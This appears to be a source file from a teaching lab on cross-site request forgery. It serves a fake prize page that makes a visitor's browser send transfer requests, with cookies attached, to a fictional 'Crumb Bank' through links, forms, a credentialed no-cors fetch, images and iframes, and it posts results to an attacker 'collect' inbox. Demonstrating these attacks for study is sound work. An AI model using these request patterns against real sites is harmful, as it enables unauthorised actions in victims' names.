import { markup, type Markup } from '@/lib/plain-document'
import { bankPath, type Target } from '@/lib/wire/attacks'
import { checkToken } from '@/lib/wire/experiment-token'
import { otherPage } from '../page-of-other-site'

/** The attack page: six ways to make a browser send a request to the bank. The token in each says whose attack it is. */
export function GET(request: Request): Promise<Response> {
  return otherPage(request, async (app, query) => {
    const title = 'You have won 1,000,000 crumbs!'
    const token = query.get('token') ?? ''
    const checked = await checkToken(token, 'cross-site', null)
    if (!checked.ok)
      return {
        title: 'No attack',
        status: checked.status,
        body: markup`<p role="alert">${checked.message}</p>`,
      }
    const allow = {
      'img-src': `${app} data:`,
      'frame-src': app,
      'connect-src': `'self' ${app}`,
      'form-action': `'self' ${app}`,
    }
    return { title, allow, script, body: attackBody(app, token, query.get('load')) }
  })
}

function attackBody(app: string, token: string, load: string | null): Markup {
  const at = (target: Target) => `${app}${bankPath}/${target}`
  const withToken = (target: Target) => `${at(target)}?token=${token}`
  const self = (load: string) => `/attack?token=${token}&load=${load}`
  const hidden = markup`<input type="hidden" name="token" value="${token}">`
  return markup`
<p>Crumb Bank gives them away. Each of these makes <em>your</em> browser ask <em>the bank</em> to transfer them
elsewhere. Whether the bank takes the request for yours depends on which of your cookies it carries.</p>
<h2>Requests that open a page</h2>
<p><a href="${withToken('link')}" target="_blank">Link: claim the prize</a></p>
<form action="${at('get-form')}" target="_blank">${hidden}<p><button>GET form: claim the prize</button></p></form>
<form action="${withToken('post-form')}" method="post" target="_blank"><p><button>POST form: claim the prize</button></p></form>
<h2>Requests in the background</h2>
<p><button id="fetch" type="button" data-target="${withToken('fetch')}" data-collect="/collect?token=${token}">Fetch: claim the prize</button>
<span id="fetched" role="status"></span></p>
<noscript><p>The fetch needs a script; all other attacks need none.</p></noscript>
<p><a href="${self('image')}">Image: look at the prize</a></p>
${load === 'image' ? markup`<p><img src="${withToken('image')}" alt="The prize" width="120" height="40"></p>` : ''}
<p><a href="${self('iframe')}">Frame: open the bank in here</a></p>
${load === 'iframe' ? markup`<iframe src="${withToken('iframe')}" title="Crumb Bank, in a frame"></iframe>` : ''}
<h2>What this site learns</h2>
<form action="/collect?token=${token}" method="post">
<p><label for="loot">Send a text to the attacker’s inbox</label> <input id="loot" name="loot" maxlength="1000">
<button>Send</button></p></form>
${load === null ? markup`<img src="${withToken('probe')}" alt="" width="1" height="1">` : ''}`
}

// `no-cors`: the request goes out with its cookies; it is only the answer that the attacker may not read.
const script = `
const button = document.getElementById('fetch')
button.addEventListener('click', async () => {
  const { target, collect } = button.dataset
  const response = await fetch(target, { mode: 'no-cors', credentials: 'include' })
  const text = await response.text()
  const loot = 'fetch: an answer of type ' + response.type + ', of which ' + text.length + ' characters can be read'
  await fetch(collect, { method: 'POST', body: loot })
  document.getElementById('fetched').textContent = 'The request was sent.'
})
`
